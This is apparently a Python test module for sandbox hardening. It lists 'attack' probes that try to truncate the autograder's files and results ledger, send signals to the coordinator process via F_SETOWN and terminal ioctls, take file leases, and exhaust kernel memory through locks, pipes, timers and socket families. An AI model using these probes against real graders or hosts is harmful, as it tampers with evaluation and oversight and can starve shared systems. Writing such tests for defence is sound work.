"""Programs that ask the kernel for what a newer one refuses, or for memory that no limit counts."""

from __future__ import annotations

from .attack import Attack

_FCNTL = r"""
import ctypes
import fcntl
import os
import struct
import tempfile

libc = ctypes.CDLL(None, use_errno=True)
BREACHED = False


def answered(*arguments):
    try:
        fcntl.fcntl(*arguments)
        return True
    except OSError:
        return False


def ioctl_answered(descriptor, number, process):
    return libc.ioctl(descriptor, ctypes.c_ulong(number), ctypes.byref(ctypes.c_int(process))) == 0
"""

ATTACKS = [
    Attack(
        "empties-by-path",
        "Cuts the grader's files by their paths, at the length that they have.",
        r"""
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
TRUNCATE = 45 if platform.machine() == "aarch64" else 76
BREACHED = False
for path in ("@CANARY@", "@OTHER@", "@RESULTS@/ledger.sqlite", "@ROOT@/autograder/cli.py"):
    try:
        size = os.stat(path).st_size
    except OSError:
        continue
    for way in (
        lambda: os.truncate(path, size),
        lambda: libc.truncate(path.encode(), ctypes.c_long(size)) and 1 / 0,
        lambda: libc.syscall(TRUNCATE, path.encode(), ctypes.c_long(size)) and 1 / 0,
    ):
        try:
            way()
            BREACHED = True
        except (OSError, ZeroDivisionError):
            pass
""",
        holds="container",
    ),
    Attack(
        "empties-while-opening",
        "Opens files of packages and of the kit for writing, and cuts them where they end.",
        r"""
import os

BREACHED = False
for path in ("@CANARY@", "@OTHER@", os.__file__, "@ROOT@/autograder/inside/serve.py"):
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND):
        try:
            descriptor = os.open(path, flags)
        except OSError:
            continue
        try:
            os.ftruncate(descriptor, os.fstat(descriptor).st_size)
            BREACHED = True
        except OSError:
            pass
""",
        holds="container",
    ),
    Attack(
        "empties-by-allocating",
        "Cuts a hole of no length into a readable file, and cuts its own descriptor of it.",
        r"""
import os

BREACHED = False
for path in ("@CANARY@", os.__file__, "@ROOT@/data/crop_yield.csv"):
    try:
        descriptor = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    for way in (
        lambda: os.ftruncate(descriptor, os.fstat(descriptor).st_size),
        lambda: os.truncate(f"/proc/self/fd/{descriptor}", os.fstat(descriptor).st_size),
        lambda: os.posix_fallocate(descriptor, 0, 1),
    ):
        try:
            way()
            BREACHED = True
        except OSError:
            pass
""",
        holds="container",
    ),
    Attack(
        "signals-by-an-owner",
        "Makes the coordinator the owner of a pipe, so that the kernel sends it a signal.",
        _FCNTL
        + r"""
ours, theirs = os.pipe()
for process in (@PID@, os.getppid(), -1, -@PID@):
    BREACHED |= answered(ours, fcntl.F_SETOWN, process)
BREACHED |= answered(ours, fcntl.F_SETSIG, 23)
""",
        holds="container",
    ),
    Attack(
        "signals-by-an-owner-of-a-kind",
        "The same by F_SETOWN_EX, for a thread, a process and a group, and on a file.",
        _FCNTL
        + r"""
F_SETOWN_EX = 15
with tempfile.TemporaryFile() as file:
    for descriptor in (file.fileno(), *os.pipe()):
        for kind in range(3):
            BREACHED |= answered(descriptor, F_SETOWN_EX, struct.pack("ii", kind, @PID@))
""",
        holds="container",
    ),
    Attack(
        "signals-by-an-owner-of-a-socket",
        "The same by the calls that sockets and terminals have for it.",
        _FCNTL
        + r"""
import socket

FIOSETOWN, SIOCSPGRP, TIOCSPGRP, TIOCSTI = 0x8901, 0x8902, 0x5410, 0x5412
one, other = socket.socketpair()
for number in (FIOSETOWN, SIOCSPGRP, TIOCSPGRP, TIOCSTI):
    BREACHED |= ioctl_answered(one.fileno(), number, @PID@)
""",
        holds="container",
    ),
    Attack(
        "leases-and-notes",
        "Takes a lease on files that others open, which then wait, and asks to be told of changes.",
        _FCNTL
        + r"""
F_SETLEASE, F_NOTIFY = 1024, 1026
for path in ("@ROOT@/data/crop_yield.csv", os.__file__, "own"):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_CREAT * (path == "own"), 0o600)
    except OSError:
        continue
    BREACHED |= answered(descriptor, F_SETLEASE, fcntl.F_RDLCK)
BREACHED |= answered(os.open(".", os.O_RDONLY), F_NOTIFY, 1)
""",
        holds="container",
    ),
    Attack(
        "record-locks",
        "Locks every other byte of a file: each lock is memory of the kernel that nobody counts.",
        _FCNTL
        + r"""
with tempfile.TemporaryFile() as file:
    try:
        for at in range(1_000):
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * at)
        BREACHED = True
    except OSError:
        pass
""",
        holds="container",
    ),
    Attack(
        "record-locks-that-wait",
        "The same by the call that waits for a lock.",
        _FCNTL
        + r"""
with tempfile.TemporaryFile() as file:
    for at in range(100):
        lock = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 2 * at, 1, 0)
        BREACHED |= answered(file.fileno(), fcntl.F_SETLKW, lock)
""",
        holds="container",
    ),
    Attack(
        "record-locks-of-open-files",
        "The same by locks that belong to an open file, and by the numbers of a bigger command.",
        _FCNTL
        + r"""
F_OFD_SETLK, F_OFD_SETLKW = 37, 38
with tempfile.TemporaryFile() as file:
    for command in (F_OFD_SETLK, F_OFD_SETLKW):
        lock = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 1, 0)
        BREACHED |= answered(file.fileno(), command, lock)
        wide = ctypes.c_long(0x1_0000_0000 | command)
        found = ctypes.create_string_buffer(lock)
        BREACHED |= libc.fcntl(file.fileno(), wide, found) == 0
""",
        holds="container",
    ),
    Attack(
        "large-pipes",
        "Makes pipes that hold a megabyte each, outside the limit of its memory.",
        _FCNTL
        + r"""
F_SETPIPE_SZ = 1031
for _ in range(10):
    ours, theirs = os.pipe()
    BREACHED |= answered(theirs, F_SETPIPE_SZ, 2**20)
    os.set_blocking(theirs, False)
    BREACHED |= os.write(theirs, bytes(2**20)) > 2**16
""",
        holds="container",
    ),
    Attack(
        "timers-of-the-kernel",
        "Makes ten thousand timers, each some hundred bytes of the kernel.",
        r"""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
made, timer = 0, ctypes.c_void_p()
for _ in range(10_000):
    made += libc.timer_create(1, None, ctypes.byref(timer)) == 0
BREACHED = made > 256
""",
    ),
    Attack(
        "pairs-of-other-families",
        "Asks for pairs of sockets of every family: a rare one loads a module into the kernel.",
        r"""
import socket

BREACHED = False
for family in range(2, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            socket.socketpair(family, kind)
            BREACHED = True
        except OSError:
            pass
""",
        holds="container",
    ),
]
